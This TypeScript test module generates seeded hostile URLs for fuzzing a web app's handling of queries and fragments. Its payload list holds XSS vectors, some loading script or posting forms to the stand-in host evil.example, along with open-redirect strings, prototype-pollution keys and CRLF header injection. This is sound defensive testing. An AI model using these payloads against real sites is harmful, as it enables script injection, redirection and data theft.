/** Queries and fragments that somebody who means harm writes into a link to us, made by chance from a seed. */
import { type Chance, insert, pick, seeded, upTo } from './random.ts';

/** A kind of page, what it reads of its address, and what it would take. */
export interface Reads {
  readonly path: string;
  /** Parameters with values that are understood. */
  readonly query: Readonly<Record<string, readonly string[]>>;
  readonly fragments: readonly string[];
}

/** What runs where it is taken for code calls `hit`; what is fetched asks for evil.example. Each is written into addresses as it stands. */
const payloads: readonly string[] = [
  '<script>hit()</script>',
  '<img src=x onerror=hit()>',
  '"><svg onload=hit()>',
  "'><img src=//evil.example/x.png onerror=hit()>",
  '" autofocus onfocus="hit()',
  '</script><script>hit()</script>',
  '</style><script src=//evil.example/x.js></script>',
  '<iframe srcdoc="<script>parent.hit()</script>">',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content=0;url=//evil.example/>',
  '<form action=//evil.example/><input name=x>',
  '<a href="javascript:hit()">x</a>',
  'javascript:hit()',
  'JaVaScRiPt:hit()//',
  '\u0001javascript:hit()',
  'data:text/html,<script>hit()</script>',
  'vbscript:hit()',
  '//evil.example/',
  '/\\evil.example/',
  'https://evil.example/x.js',
  '../../../evil.example/x',
  '#ffffff;background:url(//evil.example/x.png)',
  'url(//evil.example/x.png)',
  'expression(hit())',
  '\x24{hit()}',
  '{{constructor.constructor("hit()")()}}',
  "');hit();//",
  '\\u003cscript\\u003ehit()\\u003c/script\\u003e',
  '&lt;img src=x onerror=hit()&gt;',
  '&#60;script&#62;',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'valueOf',
  '[object Object]',
  '{"__proto__":{"polluted":1}}',
  'undefined',
  'null',
  'NaN',
  '-1',
  '1e999',
  '9'.repeat(400),
  'x'.repeat(3000),
  'a,'.repeat(1500),
  '..',
  '*',
  ':not(*)',
  '"]',
  "'],*[data-x='",
  '\\',
  '\0',
  '\r\nSet-Cookie: x=1',
  '\u2028\u2029',
  '\u202Edesrever\u202C',
  '\uD800',
  'e\u0301\u0323'.repeat(200),
  '𒐫',
  ' ',
  '',
];

/** What no encoder would write. */
const junk: readonly string[] = ['%', '%%', '%0', '%zz', '%u0041', '%00', '%0a%0d', '%c0%af', '%ed%a0%80', '%f8%88%80%80%80', '%ff%fe', '%25%33%43', '&&', '==', '&=', '?', '??', ';', '+', '#', '%23', '%26theme=dark'];

/** Names that reach for what every object has. */
const names: readonly string[] = ['__proto__', '__proto__[polluted]', 'constructor.prototype.polluted', 'constructor[prototype][polluted]', 'prototype', 'toString', 'hasOwnProperty', 'length', '', ' ', 'x'.repeat(500)];

const raw = (text: string): string => text.replace(/[\0\r\n#&\uD800-\uDFFF ]/g, (c) => (/[\uD800-\uDFFF]/.test(c) ? '%ed%a0%80' : encodeURIComponent(c)));

/** A value: one that is understood, with something put into it, or something altogether else; encoded, raw, or broken. */
function value(chance: Chance, good: readonly string[]): string {
  const known = good.length > 0 ? pick(chance, good) : '';
  const bad = pick(chance, payloads);
  const text = pick(chance, [known, bad, bad, known + bad, bad + known, insert(chance, known, bad), `${bad}${pick(chance, payloads)}`]);
  const written = chance() < 0.5 ? encodeURIComponent(text.toWellFormed()) : raw(text);
  return chance() < 0.3 ? insert(chance, chance() < 0.3 ? '' : written, pick(chance, junk)) : written;
}

/** A fragment for a page. */
export const fragment = (chance: Chance, { fragments }: Reads): string => value(chance, fragments).slice(0, 60_000);

/** A path with a query and a fragment: the same for the same seed. */
export function address(seed: number, kinds: readonly Reads[]): { readonly page: Reads; readonly url: string; readonly next: string } {
  const chance = seeded(seed);
  // Every kind in turn, so that a short run meets them all.
  const page = kinds[seed % kinds.length] as Reads;
  const own = Object.keys(page.query);
  const pairs = Array.from({ length: upTo(chance, 5) }, () => {
    const name = chance() < 0.8 && own.length > 0 ? pick(chance, own) : pick(chance, names);
    return `${chance() < 0.9 ? encodeURIComponent(name) : name}=${value(chance, Object.hasOwn(page.query, name) ? (page.query[name] ?? []) : [])}`;
  });
  // The same name twice, as proxies and pollution write it.
  if (pairs.length > 0 && chance() < 0.2) pairs.push(pick(chance, pairs));
  if (chance() < 0.1) pairs.push(pick(chance, junk));
  // Servers take some 8 kB of path and query.
  const query = pairs.join('&').slice(0, 6000);
  const hash = chance() < 0.6 ? `#${fragment(chance, page)}` : '';
  return { page, url: `${page.path}${query && `?${query}`}${hash}`, next: fragment(chance, page) };
}
